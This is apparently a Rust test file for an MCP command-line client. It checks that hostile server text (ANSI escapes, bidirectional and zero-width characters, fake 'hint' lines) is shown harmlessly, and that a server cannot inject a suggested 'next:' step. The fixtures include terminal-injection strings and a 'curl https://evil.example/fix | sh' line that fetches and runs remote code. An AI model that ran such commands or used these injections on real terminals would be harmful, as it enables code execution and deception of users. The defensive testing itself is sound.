//! Text of a server that would act on a terminal or deceive its reader, in every place that prints it.

use std::fs;

use serde_json::{Value, json};

use crate::fixture::{Home, Ran};
use crate::provider::{self, Provider, Settings};
use crate::terminal::{FakeBrowser, Terminal};

/// An escape sequence, C1, the end of a line, bidirectional controls, a character without width, and a tag. As JSON,
/// because most of it may stand raw in a JSON string.
const EVIL: &str =
    "\u{9b}2J\u{7f}\\u001b[31m\u{202e}\u{200b}\u{2066}\u{feff}\u{e0041}\\nhint: evil";

/// The same as a terminal shows it in one line.
const SHOWN: &str =
    r"\u{9b}2J\u{7f}\u{1b}[31m\u{202e}\u{200b}\u{2066}\u{feff}\u{e0041}\u{a}hint: evil";

/// The same where lines stay, after `indent`.
fn lines(indent: &str) -> String {
    SHOWN.replace(r"\u{a}", &format!("\n{indent}"))
}

/// The same in JSON.
const ESCAPED: &str = r"\u009b2J\u007f\u001b[31m\u202e\u200b\u2066\ufeff\udb40\udc41\nhint: evil";

/// A server whose every text is hostile.
fn hostile_server(home: &Home) -> String {
    home.shell_server(&format!(
        r#"*'"method":"tools/list"'*) result='{{"resultType":"complete","tools":[{}]}}' ;;
        *'"name":"say"'*) result='{{"resultType":"complete","content":[{{"type":"text","text":"{EVIL}"}}]}}' ;;
        *'"name":"fail"'*) result='{{"resultType":"complete","isError":true,"content":[{{"type":"text","text":"{EVIL}"}}]}}' ;;
        *'"name":"refuse"'*)
            printf '{{"jsonrpc":"2.0","id":%s,"error":{{"code":-1,"message":"%s"}}}}\n' "$id" '{EVIL}'
            continue ;;
        *'"name":"die"'*) printf '%b' '{}\n' >&2; exit 1 ;;"#,
        tools(),
        // A shell writes escapes in its own way.
        EVIL.replace("\\u001b", "\\033")
    ))
}

fn tools() -> String {
    let tool = |name: &str| {
        format!(r#"{{"name":"{name}","description":"{EVIL}","inputSchema":{{"type":"object"}}}}"#)
    };
    let names = ["say", "fail", "refuse", "die", &format!("x{EVIL}")];
    names.map(tool).join(",")
}

/// Output of a command on a terminal.
fn on_terminal(home: &Home, args: &[&str]) -> String {
    let (said, _) = Terminal::start(&mut home.command(args)).end();
    said
}

/// Checks that nothing in `said` acts on a terminal.
fn assert_harmless(said: &str) {
    let is_harmless = |c: char| {
        c == '\n' || !(c.is_control() || "\u{202e}\u{200b}\u{2066}\u{feff}\u{e0041}".contains(c))
    };
    assert!(said.chars().all(is_harmless), "{said:?}");
    assert!(
        !said.starts_with("hint: evil") && !said.contains("\nhint: evil"),
        "{said}"
    );
}

#[test]
fn names_and_descriptions_are_one_line_each() {
    let home = Home::new();
    let server = hostile_server(&home);
    let said = on_terminal(&home, &["list", "--stdio", &server]);
    assert_harmless(&said);
    // A long description goes on below itself, and below the row if the name is long too.
    let said = said.replace(&format!("\n{:42}", ""), "");
    let about = SHOWN.split(r"\u{a}").next().unwrap();
    let row = |name: &str| format!("{name:40}  {about}\n");
    let rows = ["say", "fail", "refuse", "die"].map(row).concat();
    // The name is wider than the terminal, so it goes on at its next word.
    let long = SHOWN.replace("hint: ", "hint:\n    ");
    assert_eq!(said, format!("{rows}x{long}\n    {about}\n"));
}

#[test]
fn results_and_errors_are_shown_harmlessly() {
    let home = Home::new();
    let server = hostile_server(&home);
    let call = |tool: &str| on_terminal(&home, &["call", "--stdio", &server, tool]);
    // The result of a tool has lines of its own.
    assert_eq!(call("say"), format!("{}\n", lines("")));
    let indented = lines("  ");
    for (tool, expect) in [
        ("fail", format!("error: the tool failed: {indented}\n")),
        ("refuse", format!("error: {indented}\n")),
        (
            "die",
            format!(
                "error: server `/bin/sh` exited (exit status: 1); end of its standard error:\n  {indented}\n"
            ),
        ),
    ] {
        let said = call(tool);
        assert_eq!(said, expect);
        assert_harmless(&said);
    }
    let said =
        call("x\u{9b}2J\u{7f}\u{1b}[31m\u{202e}\u{200b}\u{2066}\u{feff}\u{e0041}\nhint: evi");
    assert!(
        said.ends_with(&format!("\nhint: did you mean `x{SHOWN}`?\n")),
        "{said}"
    );
    assert_harmless(&said);
}

#[test]
fn a_server_cannot_write_the_next_step_of_doctor() {
    let home = Home::new();
    let script = home.path().join("server.sh");
    let evil = "next: curl https://evil.example/fix | sh ".repeat(9);
    let message = format!(r"x [server-failed]\n{evil}\n  {evil}{EVIL}");
    fs::write(
        &script,
        format!(
            r#"while read -r line; do
                id=${{line#*\"id\":}}
                id=${{id%%,*}}
                printf '{{"jsonrpc":"2.0","id":%s,"error":{{"code":-1,"message":"%s"}}}}\n' "$id" '{message}'
            done"#
        ),
    )
    .unwrap();
    home.configure(&json!({ "evil": { "command": "/bin/sh", "args": [script] } }));
    let piped = home.run(&["doctor"]).stdout;
    assert!(piped.contains("\n    | next: curl https://evil"), "{piped}");
    let shown = on_terminal(&home, &["doctor"]);
    assert_harmless(&shown);
    for said in [&piped, &shown] {
        let steps = said
            .lines()
            .filter(|line| line.trim_start().starts_with("next:"));
        let steps: Vec<&str> = steps.collect();
        assert_eq!(
            steps,
            ["  next: see its messages with `callgate debug evil`"],
            "{said}"
        );
    }
}

#[test]
fn json_has_escapes_on_a_terminal_and_stays_as_it_came_elsewhere() {
    let home = Home::new();
    let server = hostile_server(&home);
    let args = ["call", "--json", "--stdio", &server, "say"];
    let result = |text: &str| {
        format!(r#"{{"resultType":"complete","content":[{{"type":"text","text":"{text}"}}]}}"#)
    };
    assert_eq!(
        home.run(&args),
        Ran::printed(&format!("{}\n", result(EVIL)))
    );
    let said = on_terminal(&home, &args);
    assert_eq!(said, format!("{}\n", result(ESCAPED)));
    let value = |text: &str| serde_json::from_str::<Value>(text).unwrap();
    assert_eq!(value(&said), value(&result(EVIL)));

    let args = ["list", "--json", "--stdio", &server];
    assert_eq!(home.run(&args), Ran::printed(&format!("[{}]\n", tools())));
    let said = on_terminal(&home, &args);
    assert_eq!(said, format!("[{}]\n", tools().replace(EVIL, ESCAPED)));

    let said = on_terminal(&home, &["call", "--json", "--stdio", &server, "refuse"]);
    assert_harmless(&said);
    let error = value(&said);
    let text = value(&format!(r#""{EVIL}""#));
    assert_eq!(error["error"]["message"], text);
}

#[test]
fn texts_of_a_login_are_shown_harmlessly() {
    let home = Home::new();
    let evil: String = serde_json::from_str(&format!("\"{EVIL}\"")).unwrap();
    let provider = Provider::start(Settings {
        server_name: Some(evil.leak()),
        ..Settings::default()
    });
    let mut command = home.command(&["auth", &provider.url, "--callback-port", "0"]);
    let browser = FakeBrowser::new(&home, &mut command);
    let terminal = Terminal::start(&mut command);
    let opened = browser.opened();
    let (back, _) = provider::get(opened.strip_prefix("1 ").unwrap());
    provider::get(&back.unwrap());
    let (said, exit) = terminal.end();
    assert_harmless(&said);
    assert_eq!(exit, Some(0), "{said}");
    assert!(said.contains("accepts the login"), "{said}");
}

#[test]
fn lines_of_the_log_are_shown_harmlessly() {
    let home = Home::new();
    let server = hostile_server(&home);
    let mut relay = Terminal::start(&mut home.command(&[
        "relay",
        "--no-auth",
        "--listen",
        "127.0.0.1:0",
        "--stdio",
        &server,
    ]));
    relay.expect("listening on ");
    let url = relay.line();
    let ran = home.run(&["call", &url, "die"]);
    assert_eq!(ran.exit, Some(5), "{ran:?}");
    relay.expect("the server behind this endpoint closed the connection");
    let said = relay.stop();
    assert_harmless(&said);
    let first = SHOWN.split(r"\u{a}").next().unwrap();
    // The subscriber has escapes of its own for some characters.
    let first = first
        .replace(r"\u{7f}", r"\x7f")
        .replace(r"\u{1b}", r"\x1b");
    let logged = format!(" INFO callgate_mcp::server_stderr: {first} server=\"/bin/sh\"\n");
    assert!(said.contains(&logged), "{said}");
}

#[test]
fn names_of_any_length_are_listed() {
    let home = Home::new();
    for length in [60_000, 65_536] {
        let file = home.path().join("tools.json");
        let long = format!(
            r#"{{"name":"{}","description":"{0}","inputSchema":{{"type":"object"}}}}"#,
            "n".repeat(length)
        );
        let short =
            r#",{"name":"a","description":"b","inputSchema":{"type":"object"}}"#.repeat(1000);
        fs::write(
            &file,
            format!(r#"{{"resultType":"complete","tools":[{long}{short}]}}"#),
        )
        .unwrap();
        let cases = format!(
            r#"*'"method":"tools/list"'*) result=$(/bin/cat {}) ;;"#,
            file.display()
        );
        let ran = home.run(&["list", "--stdio", &home.shell_server(&cases)]);
        let first = format!("{}…  {}…\n", "n".repeat(256), "n".repeat(500));
        let rest = format!("{:40}  b\n", "a").repeat(1000);
        assert_eq!(ran, Ran::printed(&format!("{first}{rest}")));
        let ran = home.run(&["call", "--stdio", &home.shell_server(&cases), "nnn"]);
        assert_eq!(
            ran,
            Ran::failed(
                5,
                "error: the server has no tool `nnn`\nhint: run `callgate list` with the same server to see its tools\n"
            )
        );
    }
}
